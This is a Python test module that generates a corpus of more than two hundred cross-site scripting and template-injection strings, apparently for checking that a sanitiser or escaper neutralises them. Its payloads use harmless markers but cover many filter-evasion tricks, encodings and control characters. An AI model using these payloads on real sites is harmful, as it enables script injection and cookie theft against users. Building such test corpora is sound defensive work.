"""Hostile text of our own making: more than two hundred strings, each of which does something if any part of it is run.

Owns: the strings, and what they would do: `window.__xss`, a title, a cookie, a request. Refuses: where they are put.
"""

from __future__ import annotations

from typing import Final

DEEDS: Final = (
    "window.__xss=1",
    "document.title='xss'",
    "document.cookie='xss=1;path=/'",
    "fetch('/hone/xss')",
    "new Image().src='http://xss.invalid/'",
)
# Each stands for two strings, with another deed in the place of §.
_ELEMENTS: Final = r"""
<script>§</script>
<SCRIPT>§</SCRIPT>
<script >§</script >
<script/x>§</script>
<script
>§</script>
<scr<script>ipt>§</scr</script>ipt>
<script type=module>§</script>
<script src="data:text/javascript,§"></script>
<script src=//xss.invalid/a.js></script><!-- § -->
</script><script>§</script>
</title><script>§</script>
</textarea><script>§</script>
</style><script>§</script>
</pre></code></details><script>§</script>
</template><script>§</script>
</select></option><script>§</script>
</dialog><script>§</script>
</p></dd></dl></section></main><script>§</script>
</noscript><script>§</script>
</table><script>§</script>
<img src=x onerror=§>
<img src=x onerror="§">
<img src=x onerror='§'>
<img src=x onerror=`§`>
<img/src=x/onerror=§>
<img src=x	onerror=§>
<IMG SRC=x OnErRoR=§>
<img src="x" srcset="x 1x" onerror=§//
<image src=x onerror=§>
<svg onload=§>
<svg/onload=§>
<svg><script>§</script></svg>
<svg><script href="data:text/javascript,§"/></svg>
<svg><a xlink:href="javascript:§"><text x=9 y=9>here</text></a></svg>
<svg><animate onbegin=§ attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to="§"></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload='§'/>#x"/></svg>
<svg><foreignObject><body onload=§></foreignObject></svg>
<svg><style><img src=x onerror=§></style></svg>
<svg><desc><![CDATA[</desc><script>§</script>]]></svg>
<math><mtext><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mtext></math>
<math href="javascript:§">here</math>
<body onload=§>
<body onpageshow=§>
<html onmousemove=§>
<iframe src="javascript:§"></iframe>
<iframe srcdoc="<script>§</script>"></iframe>
<iframe srcdoc="&lt;script&gt;§&lt;/script&gt;"></iframe>
<object data="javascript:§"></object>
<object data="data:text/html,<script>§</script>"></object>
<embed src="javascript:§">
<embed src="data:image/svg+xml,<svg onload='§'/>">
<video src=x onerror=§></video>
<video><source onerror=§></video>
<audio src=x onerror=§></audio>
<details open ontoggle=§>more</details>
<details><summary onclick=§>more</summary></details>
<input autofocus onfocus=§>
<input type=image src=x onerror=§>
<select autofocus onfocus=§></select>
<textarea autofocus onfocus=§></textarea>
<button autofocus onfocus=§>press</button>
<button popovertarget=p onclick=§>press</button><div id=p popover onbeforetoggle=§></div>
<a href="javascript:§" autofocus onfocus=§>here</a>
<marquee onstart=§>moves</marquee>
<form action="javascript:§"><button autofocus>send</button></form>
<form><button formaction="javascript:§">send</button></form>
<form id=csrf action=//xss.invalid/><input name=csrf></form><!-- § -->
<div onmouseover=§>over me</div>
<div style="width:expression(§)">wide</div>
<div style="background:url(javascript:§)">back</div>
<div style="animation:x 1s" onanimationstart=§>now</div>
<style>@import'//xss.invalid/§';</style>
<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=§>b</b>
<link rel=stylesheet href="//xss.invalid/a.css?§">
<link rel=import href="data:text/html,<script>§</script>">
<meta http-equiv=refresh content="0;url=javascript:§">
<meta http-equiv=refresh content="0;url=http://xss.invalid/?§">
<meta http-equiv=Content-Security-Policy content="script-src *"><script>§</script>
<base href="//xss.invalid/"><!-- § -->
<template><script>§</script></template>
<noscript><p title="</noscript><img src=x onerror=§>">
<xss tabindex=1 onfocus=§ autofocus>made up</xss>
<x-y contenteditable onblur=§ onfocus=§>made up</x-y>
<isindex type=image src=x onerror=§>
<keygen autofocus onfocus=§>
<table background="javascript:§"><td>cell</td></table>
<portal src="javascript:§"></portal>
"""
_BREAKS: Final = r"""
" onmouseover="§
' onmouseover='§
` onmouseover=`§
" autofocus onfocus="§" x="
' autofocus onfocus='§' x='
"><script>§</script>
'><script>§</script>
"/><img src=x onerror=§>
'/><img src=x onerror=§>
" style="animation:x" onanimationstart="§
"></a><svg onload=§>
"></time></span></td></tr></table><img src=x onerror=§>
" href="javascript:§
javascript:§
JaVaScRiPt:§
 javascript:§
java&#10;script:§
java	script:§
javascript&colon;§
javascript:/*--></title></style></script>*/§
javascript://%0a§
/hone/../javascript:§
//xss.invalid/§
\\xss.invalid\§
data:text/html,<script>§</script>
data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==§
vbscript:§
';§;'
";§;"
`;§;`
${§}
'-§-'
</script><script>§//
*/§/*
//%0d%0a§
<!-- --><script>§</script><!-- -->
<!--><img src=x onerror=§>-->
--><script>§</script>
--!><img src=x onerror=§>
<![CDATA[<script>§</script>]]>
]]><script>§</script>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">§</script>
<?php echo '<script>§</script>' ?>
<!doctype html><script>§</script>
<%= <script>§</script> %>
&lt;script&gt;§&lt;/script&gt;
&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;
&#60;script&#62;§&#60;/script&#62;
&#x3c;img src=x onerror=§&#x3e;
&#0000060img src=x onerror=§>
%3Cscript%3E§%3C/script%3E
%253Cscript%253E§%253C/script%253E
\u003cscript\u003e§\u003c/script\u003e
\x3cscript\x3e§\x3c/script\x3e
{{7*7}}<script>§</script>
{{ self.__init__.__globals__ }}§
{% raw %}<script>§</script>{% endraw %}
{{ '<script>§</script>'|safe }}
{{constructor.constructor('§')()}}
#{§}
<%§%>
[click](javascript:§)
![x](x"onerror="§)
[x]: javascript:§
<javascript:§>
```html
<script>§</script>
```
body{background:url(//xss.invalid/§)}
@import "//xss.invalid/§";
event: message
data: <script>§</script>

retry: 0\n\ndata: <img src=x onerror=§>
__proto__[x]=<script>§</script>
csrf=&key=<script>§</script>
"""
# Characters that change how what stands beside them is read: each is put into a script's name and before an attribute.
_CHARACTERS: Final = (
    "\x00", "\x01", "\x08", "\x0b", "\x0c", "\r", "\x1b[2J", "\x7f", "\x85", "\xa0", "\xad", "\u0130", "\u200b",
    "\u200e", "\u202e", "\u2028", "\u2029", "\u2066", "\ufeff", "\uff1c", "\ufffd", "\ufffe", "\U000e0001",
    "\U0001f4a9",
)  # fmt: skip


def _made() -> tuple[str, ...]:
    blocks = [*_ELEMENTS.strip("\n").split("\n"), *_BREAKS.strip("\n").split("\n")]
    patterns = [pattern for pattern in blocks if "§" in pattern]
    patterns += [f"<script\n>§</script\n>{pattern}" for pattern in ("{{7*7}}", "</title>", "-->")]
    for char in _CHARACTERS:
        patterns += [f"<scr{char}ipt>§</script>", f"<img{char}src=x{char}onerror=§>", f"{char}javascript:§{char}"]
    count = len(DEEDS)
    made = [pattern.replace("§", DEEDS[(at + step) % count]) for at, pattern in enumerate(patterns) for step in (0, 2)]
    return tuple(dict.fromkeys(made))


CORPUS: Final = _made()
